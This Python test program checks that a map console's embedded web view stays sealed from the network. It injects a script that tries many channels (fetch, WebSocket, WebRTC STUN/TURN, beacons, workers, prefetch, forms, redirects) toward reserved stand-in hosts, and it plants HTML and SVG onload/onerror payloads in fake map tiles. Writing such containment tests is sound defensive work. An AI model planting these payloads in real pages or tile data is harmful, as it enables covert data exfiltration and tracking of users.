"""A program for ``test_map_keeps_to_itself``: a map whose own page turns against it.

    python -m tests.stories.hostile_page sealed|open|tiles

``sealed`` opens the map as the console does; ``open`` a bare web view, to show that the same
script does reach out where nothing holds it; ``tiles`` the map with street files that hold pages,
drawings and styles in the place of tiles.  Prints one JSON object: how each attempt ended
and how many packets the network interface ``out`` sent.
"""

import json
import os
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from tempfile import TemporaryDirectory
from time import monotonic
from typing import Any, Final

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from PySide6.QtCore import QEventLoop, QTimer
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineSettings
from PySide6.QtWebEngineWidgets import QWebEngineView
from PySide6.QtWidgets import QApplication

from console.places.page import build_page
from console.ui.map.pane import MapPane
from console.ui.map.web.scheme import register_scheme
from tests.places.tiles.files import At, mbtiles, packed, street

PATIENCE_S: Final = 30.0
TRANSMITTED: Final = 9  # the column of packets sent
LINGER_MS: Final = 6_000  # STUN and DNS ask again after seconds
# 192.0.2.0/24 and 2001:db8::/32 are nobody's (RFC 5737, RFC 3849), example.org nobody's business.
HOSTILE: Final = """
(() => {
  const ended = (window.ended = {});
  const note = (name) => [() => { ended[name] = "went"; }, (e) => { ended[name] = String(e); }];
  const attempt = (name, act) => {
    ended[name] = "silent";
    try { const made = act(note(name)); if (made && made.then) made.then(...note(name)); }
    catch (e) { ended[name] = String(e); }
  };
  const add = (name, more) => document.documentElement.appendChild(
    Object.assign(document.createElement(name), more));
  const servers = [
    {urls: "stun:192.0.2.1:3478"}, {urls: "stun:stun.example.org:3478"},
    {urls: "turn:192.0.2.1:3478?transport=tcp", username: "a", credential: "b"},
    {urls: "turns:192.0.2.1:443?transport=tcp", username: "a", credential: "b"},
  ];
  const call = (inside) => {
    const peer = new inside.RTCPeerConnection({iceServers: servers});
    (window.kept = window.kept || []).push(peer);
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const watched = (thing, [went, held]) =>
    Object.assign(thing, {onopen: went, onload: went, onerror: held});
  const frame = () => add("iframe", {}).contentWindow;
  attempt("fetch a number", () => fetch("http://192.0.2.1/"));
  attempt("fetch a number of six", () => fetch("http://[2001:db8::1]/"));
  attempt("fetch a name", () => fetch("https://www.example.org/", {mode: "no-cors"}));
  attempt("fetch the console itself", () => fetch("http://127.0.0.1:1/"));
  attempt("socket", (n) => void watched(new WebSocket("ws://192.0.2.1/"), n));
  attempt("socket to a name", (n) => void watched(new WebSocket("wss://ws.example.org/"), n));
  attempt("events", (n) => void watched(new EventSource("http://192.0.2.1/e"), n));
  attempt("picture", (n) => void watched(new Image(), n).setAttribute("src", "http://192.0.2.1/i"));
  attempt("beacon", () => {
    ended.beacon = navigator.sendBeacon("http://192.0.2.1/b", "x") ? "queued" : "refused";
  });
  attempt("transport", () => new WebTransport("https://192.0.2.1:4433/").ready);
  attempt("call", () => call(window));
  attempt("call from a frame", () => call(frame()));
  attempt("fetch from a frame", () => frame().fetch("http://192.0.2.1/f"));
  attempt("transport from a frame", () => new (frame().WebTransport)("https://192.0.2.1:4433/").ready);
  attempt("look up", () => void add("link", {rel: "dns-prefetch", href: "//dns.example.org"}));
  attempt("connect ahead", () => void add("link", {rel: "preconnect", href: "https://192.0.2.1"}));
  attempt("fetch ahead", () => void add("link", {rel: "prefetch", href: "https://192.0.2.1/p"}));
  attempt("style", () => void add("style", {textContent: "@import 'http://192.0.2.1/s.css';"}));
  attempt("font", () => new FontFace("x", "url(http://192.0.2.1/f.woff2)").load());
  attempt("script", (n) => void watched(add("script", {}), n).setAttribute("src", "http://192.0.2.1/j"));
  attempt("module", () => import("http://192.0.2.1/m.js"));
  attempt("worker", (n) => void watched(new Worker("http://192.0.2.1/w.js"), n));
  attempt("blob worker", () => void new Worker(URL.createObjectURL(
    new Blob(["fetch('http://192.0.2.1/bw')"], {type: "text/javascript"}))));
  attempt("frame", () => void add("iframe", {src: "http://192.0.2.1/frame"}));
  attempt("window", () => {
    ended.window = window.open("http://192.0.2.1/w") ? "opened" : "refused";
  });
  attempt("ping", () => void add("a", {href: "#x", ping: "http://192.0.2.1/ping"}).click());
  attempt("form", () => void add("form",
    {action: "http://192.0.2.1/post", method: "post"}).submit());
  attempt("speculation", () => void add("script", {type: "speculationrules", textContent:
    '{"prerender":[{"source":"list","urls":["https://www.example.org/spec"]}]}'}));
  setTimeout(() => { location.href = "http://192.0.2.1/away"; }, 1500);
  return 1;
})()
"""


def until(true: Callable[[], bool]) -> None:
    """Let the application run until something is so."""
    end = monotonic() + PATIENCE_S
    while not true():
        if monotonic() > end:
            sys.exit("the page did not come")
        linger(20)


def linger(milliseconds: int) -> None:
    loop = QEventLoop()
    QTimer.singleShot(milliseconds, loop.quit)
    loop.exec()


def sent() -> int | None:
    """How many packets went out of the interface ``out``, if there is one."""
    for line in Path("/proc/net/dev").read_text(encoding="ascii").splitlines():
        name, _, counts = line.strip().partition(":")
        if name == "out":
            return int(counts.split()[TRANSMITTED])
    return None


def attack(page: QWebEnginePage) -> dict[str, Any]:
    said: list[str] = []
    page.runJavaScript(HOSTILE, said.append)
    until(lambda: said != [])
    linger(LINGER_MS)
    page.runJavaScript("JSON.stringify(window.ended || null)", said.append)
    until(lambda: len(said) > 1)
    return {"ended": json.loads(said[1] or "null"), "url": page.url().toString()}


def sealed() -> dict[str, Any]:
    pane = MapPane(build_page)
    pane.resize(600, 400)
    pane.show()
    drawn: list[bool] = []
    pane.drawn.connect(lambda: drawn.append(True))
    pane.start()
    until(lambda: drawn != [])
    assert pane.web is not None
    before = sent()
    found = attack(pane.web.view.page())
    found |= {"stopped": dict(pane.web.gate.stopped), "before": before, "sent": sent()}
    pane.close_map()
    return found


OUT: Final = "http://192.0.2.1/"
SCRIPT: Final = (
    f"<script>fetch('{OUT}s')</script><img src='{OUT}i'><link rel='stylesheet' href='{OUT}c'>"
)
FALSE: Final[tuple[bytes, ...]] = (
    f"<!doctype html><html><body onload=\"fetch('{OUT}b')\">{SCRIPT}</body></html>".encode(),
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{OUT}v')\">"
    f"<image href='{OUT}p'/><foreignObject>{SCRIPT}</foreignObject></svg>".encode(),
    f'{{"version": 8, "sprite": "{OUT}sprite", "glyphs": "{OUT}{{fontstack}}"}}'.encode(),
    packed(f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{OUT}z'/></svg>".encode()),
)
ABOUT: Final = (
    ("attribution", f"<a href='{OUT}a'>x</a><img src='{OUT}t' onerror='fetch(`{OUT}e`)'>"),
    ("json", f'{{"tiles": ["{OUT}{{z}}/{{x}}/{{y}}"], "style": "{OUT}style"}}'),
    ("bounds", "-180,-85,180,85"),
)
FETCHED: Final = """
(() => { window.got = []; for (const at of %s) fetch("tiles/" + at).then((answer) =>
  answer.arrayBuffer().then((body) =>
    window.got.push([answer.headers.get("content-type"), body.byteLength])));
  Vigil.view.centre(0.001, 0.001, 14); return 1; })()
"""


def around(bodies: tuple[bytes, ...]) -> dict[At, bytes]:
    """Tiles around the corner of the world's quarters, at each zoom from 10 to 14."""
    found: dict[At, bytes] = {}
    for zoom in range(10, 15):
        half = 1 << zoom - 1
        corners = [(zoom, half - dx, half - dy) for dx in (0, 1) for dy in (0, 1)]
        found |= dict(zip(corners, bodies, strict=True))
    return found


def tiled(file: Path) -> dict[str, Any]:
    """Look at a street file for a while; return what its tiles were served as."""
    pane = MapPane(partial(build_page, tiles=file))
    pane.resize(600, 400)
    pane.show()
    drawn: list[bool] = []
    pane.drawn.connect(lambda: drawn.append(True))
    pane.start()
    until(lambda: drawn != [])
    assert pane.web is not None
    page = pane.web.view.page()
    asked = json.dumps(["14/8191/8191", "14/8192/8191", "14/8191/8192", "14/8192/8192"])
    said: list[Any] = []
    page.runJavaScript(FETCHED % asked, said.append)
    linger(LINGER_MS // 2)
    look = "JSON.stringify([window.got, Vigil.view.where.textContent, document.images.length])"
    page.runJavaScript(look, said.append)
    until(lambda: len(said) > 1)
    served, where, images = json.loads(said[1])
    found = {"served": served, "where": where, "images": images}
    found |= {"url": page.url().toString(), "stopped": dict(pane.web.gate.stopped)}
    pane.close_map()
    return found


def tiles() -> dict[str, Any]:
    before = sent()
    named = street(f"<img src={OUT}n onerror=fetch('{OUT}')>", layer="transportation")
    with TemporaryDirectory() as name:
        folder = Path(name)
        sorts = {
            "pictures": (FALSE, ("format", "png")),
            "shapes": (FALSE, ("format", "pbf")),
            "names": ((named,) * 4, ("format", "pbf")),
        }
        found = {
            sort: tiled(mbtiles(folder / sort, around(bodies), (*ABOUT, form)))
            for sort, (bodies, form) in sorts.items()
        }
    return {**found, "before": before, "sent": sent()}


def bare() -> dict[str, Any]:
    view = QWebEngineView()
    view.settings().setAttribute(
        QWebEngineSettings.WebAttribute.LocalContentCanAccessRemoteUrls, True
    )
    loaded: list[bool] = []
    view.loadFinished.connect(loaded.append)
    view.setHtml("<html><body></body></html>")
    view.show()
    until(lambda: loaded != [])
    before = sent()
    return attack(view.page()) | {"before": before, "sent": sent()}


if __name__ == "__main__":
    if os.geteuid() == 0:  # or the bare view, which nobody prepared, ends the process
        os.environ["QTWEBENGINE_DISABLE_SANDBOX"] = "1"
    register_scheme()
    application = QApplication([])
    found = {"sealed": sealed, "open": bare, "tiles": tiles}[sys.argv[1]]()
    sys.stdout.write(json.dumps(found))
    sys.stdout.flush()
    os._exit(0)  # the bare view's parts do not go in order
